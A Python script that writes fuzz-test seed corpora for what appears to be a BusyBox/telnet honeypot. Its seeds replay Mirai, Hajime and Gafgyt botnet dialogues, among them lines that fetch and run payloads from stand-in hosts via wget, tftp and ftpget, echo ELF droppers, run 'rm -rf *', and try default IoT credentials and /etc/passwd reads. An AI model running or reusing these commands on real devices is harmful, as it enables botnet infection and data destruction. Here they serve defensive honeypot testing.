#!/usr/bin/env python3
"""Writes the seed corpora of the fuzz targets added for issue 6 (fuzz/corpus/<target>/).

Seeds come from what busytrap really meets: the Mirai scanner, Mirai loader, Hajime and Gafgyt
dialogues of ../shared/research/iot-malware.md (as the unit tests replay them), every command
line the shell unit tests run, the real Cowrie sample of data/sample (gzip-compressed), the
device profiles of data/profiles and etc/busytrap.toml. Run from the checkout's root; the
output is deterministic, so re-running it changes nothing unless the sources changed.
"""
import ast
import gzip
import hashlib
import pathlib
import re

ROOT = pathlib.Path(__file__).resolve().parent.parent
CORPUS = ROOT / "fuzz" / "corpus"
PROFILES = 3  # the shell targets pick a profile with their first byte (index mod 3)

MIRAI_SCANNER = ["enable\0", "system\0", "shell\0", "sh\0", "/bin/busybox MIRAI\0"]
MIRAI_LOADER = [
    "enable", "shell", "sh", "/bin/busybox ECCHI",
    "/bin/busybox ps; /bin/busybox ECCHI",
    "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
    "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon",
    "rm /tmp/.t; rm /tmp/.sh; rm /tmp/.human", "cd /tmp/",
    "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
    "/bin/busybox cat /bin/echo", "/bin/busybox ECCHI", "cat /proc/cpuinfo",
    "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI",
    "/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI",
    "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00\\x00\\x00' > upnp; /bin/busybox ECCHI",
    "echo -ne '\\x02\\x00\\x28\\x00\\x01\\x00\\x00\\x00\\xff\\x0a' >> upnp; /bin/busybox ECCHI",
    "./upnp; ./dvrHelper telnet.arm; /bin/busybox IHCCE",
    "rm -rf upnp; > dvrHelper; /bin/busybox ECCHI",
]
MIRAI_WGET = "/bin/busybox wget http://198.51.100.4:80/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"
MIRAI_TFTP = "/bin/busybox tftp -g -l dvrHelper -r mirai.arm 198.51.100.4; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"
HAJIME = [
    "enable", "system", "shell", "sh", "/bin/busybox ECCHI",
    "cd /var; cat .s || cp /bin/echo .s; /bin/busybox ECCHI",
    "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
    "echo -ne '\\x7f\\x45\\x4c\\x46' > .i; ./.s>.i; ./.i; /bin/busybox ECCHI",
]
GAFGYT = [
    "sh", "echo -e '\\147\\141\\171\\146\\147\\164'",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh; "
    "tftp 198.51.100.9 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; ftpget -v -u anonymous -p anonymous -P 21 "
    "198.51.100.9 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh ftp1.sh; rm -rf *",
]
SHELL_EXTRA = [
    "for i in 1 2 3; do echo $i; done | while read x; do echo \"[$x]\"; done",
    "f() { echo $1 $#; f2 \"$@\"; }; f a b c; x=$(echo $(echo deep)); echo ${x:-none} ${#x}",
    "case $0 in *sh) echo yes;; *) echo no;; esac; if [ -d /tmp ]; then echo d; else echo n; fi",
    "cat <<EOF\nhere $HOME\nEOF", "echo a > /tmp/a; ln -s /tmp/a /tmp/b; cat /tmp/b; ls -l /tmp",
    "cd ../../../../etc; pwd; cat ../../../etc/passwd; cd /proc/self; ls", "export A=1; set; env; unset A",
    "i=0; while [ $i -lt 5 ]; do i=$((i+1)); done; echo $i", "echo `uname -m` $((3*7)) 'q' \"d\" \\x",
]


def write(target, name, data):
    folder = CORPUS / target
    folder.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("latin-1")
    (folder / name).write_bytes(data)


def test_command_lines():
    """Every string literal passed to s.run(...) in the shell unit tests."""
    lines = []
    for path in sorted((ROOT / "tests" / "unit" / "shell").glob("*_test.cpp")):
        for literal in re.findall(r'\.run\(\s*"((?:[^"\\]|\\.)*)"\s*\)', path.read_text()):
            try:
                lines.append(ast.literal_eval('"' + literal + '"'))
            except (SyntaxError, ValueError):
                continue
    return lines


def shell_seeds():
    lines = MIRAI_LOADER + [MIRAI_WGET, MIRAI_TFTP] + HAJIME + GAFGYT + SHELL_EXTRA + test_command_lines()
    for i, line in enumerate(dict.fromkeys(lines)):
        digest = hashlib.sha1(line.encode("latin-1", "replace")).hexdigest()[:12]
        write("shell_line", f"{i:03d}-{digest}", bytes([i % PROFILES]) + line.encode("latin-1", "replace"))
    sessions = {
        "mirai-scanner": MIRAI_SCANNER, "mirai-loader-echo": MIRAI_LOADER,
        "mirai-loader-wget": MIRAI_LOADER[:14] + [MIRAI_WGET, MIRAI_LOADER[-2]],
        "mirai-loader-tftp": MIRAI_LOADER[:14] + [MIRAI_TFTP, MIRAI_LOADER[-2]],
        "hajime": HAJIME, "gafgyt": GAFGYT, "shell-features": SHELL_EXTRA,
    }
    for profile in range(PROFILES):
        for name, session in sessions.items():
            write("shell_session", f"{name}-{profile}", bytes([profile]) + "\n".join(session).encode("latin-1"))


def telnet_seeds():
    iac = lambda *b: bytes([0xFF, *b])
    mirai_answers = iac(0xFC, 1) + iac(0xFB, 31) + iac(0xFA, 31, 0, 80, 0, 24) + iac(0xF0) + iac(0xFD, 1) + iac(0xFD, 3)
    scanner = b"root\0\r\n" + b"xc3511\0\r\n" + b"".join(w.encode() + b"\r\n" for w in MIRAI_SCANNER)
    loader = b"root\r\nvizxv\r\n" + b"".join(w.encode("latin-1") + b"\r\n" for w in MIRAI_LOADER[:8])
    env = iac(0xFA, 39, 0, 0) + b"USER" + bytes([1]) + b"root" + bytes([3]) + b"TERM" + bytes([1]) + b"xterm" + iac(0xF0)
    ttype = iac(0xFA, 24, 0) + b"XTERM-256COLOR" + iac(0xF0)
    seeds = {
        "mirai-scanner": bytes([0x08]) + mirai_answers + scanner,
        "mirai-loader": bytes([0x3F]) + mirai_answers + loader,
        "linux-telnet": bytes([0x1A]) + iac(0xFD, 3) + iac(0xFB, 24) + iac(0xFB, 31) + iac(0xFB, 32) + iac(0xFB, 33)
        + iac(0xFB, 34) + iac(0xFB, 39) + iac(0xFD, 5) + ttype + env + b"admin\r\0admin\r\0ls -la\r\0",
        "terminators": bytes([0x9B]) + b"a\r\nb\r\0c\nd\re\r\n",
        "editing": bytes([0xF9]) + b"ls\x7f\x7fecho hi\x08\x08ho\r\n\x03partial\r\n\x04",
        "iac-in-data": bytes([0x48]) + b"echo \xff\xff\xff\xfa\x01\xff\xf0x\r\n" + iac(0xF4) + iac(0xF3) + b"x\0\0\r\n",
        "long-line": bytes([0x00]) + b"A" * 100 + b"\r\n" + b"B\r\n",
    }
    for name, data in seeds.items():
        write("telnet_engine", name, data)


def gzip_seeds():
    sample = (ROOT / "data" / "sample" / "honeylist-cowrie-2019-07-08.json").read_bytes()
    lines = sample.splitlines(keepends=True)
    head = b"".join(lines[:12])
    mtime = 1562544000  # fixed, so the seeds are deterministic
    write("gzip_input", "sample-head.json.gz", gzip.compress(head, mtime=mtime))
    write("gzip_input", "sample-two-members.json.gz",
          gzip.compress(b"".join(lines[:5]), mtime=mtime) + gzip.compress(b"".join(lines[5:10]), mtime=mtime))
    write("gzip_input", "empty-member.gz", gzip.compress(b"", mtime=mtime) + gzip.compress(b"x\n", mtime=mtime))
    write("gzip_input", "truncated.json.gz", gzip.compress(head, mtime=mtime)[:-20])
    text = (b"2017-10-07T14:53:57+0000 [CowrieTelnetTransport,1,1.2.3.4] CMD: enable\n"
            b"2017-10-07T14:53:58+0000 [CowrieTelnetTransport,1,1.2.3.4] CMD: sh\n\tcontinued\n")
    write("gzip_input", "cowrie-text.log.gz", gzip.compress(text, compresslevel=1, mtime=mtime))
    write("gzip_input", "long-line.gz", gzip.compress(b"Z" * 70000 + b"\nend\n", mtime=mtime))


def config_seeds():
    write("config", "busytrap.toml", (ROOT / "etc" / "busytrap.toml").read_bytes())
    write("config", "small.toml", '[server]\nlisten = ["[::1]:2323@dvr", "127.0.0.1:23"]\n[honeypot]\ndelays = false\n'
          'login_failed_delay_max = 2.5\nnegotiation = "FF FD 01"\n[auth]\nrules = ["root:*", "!admin:admin"]\n'
          '[limits]\nidle_timeout = 5\n[log]\nfsync = "always"\noverflow = "block"\n')
    write("config", "settings", "@limits.idle_timeout=5\nserver.listen=127.0.0.1:1,[::1]:2@x\nhoneypot.delays=off\n"
          "honeypot.login_failed_delay_min=0.5\nlog.json=\n")


def profile_seeds():
    for path in sorted((ROOT / "data" / "profiles").glob("*.toml")):
        write("profile", path.name, path.read_bytes())


if __name__ == "__main__":
    shell_seeds()
    telnet_seeds()
    gzip_seeds()
    config_seeds()
    profile_seeds()
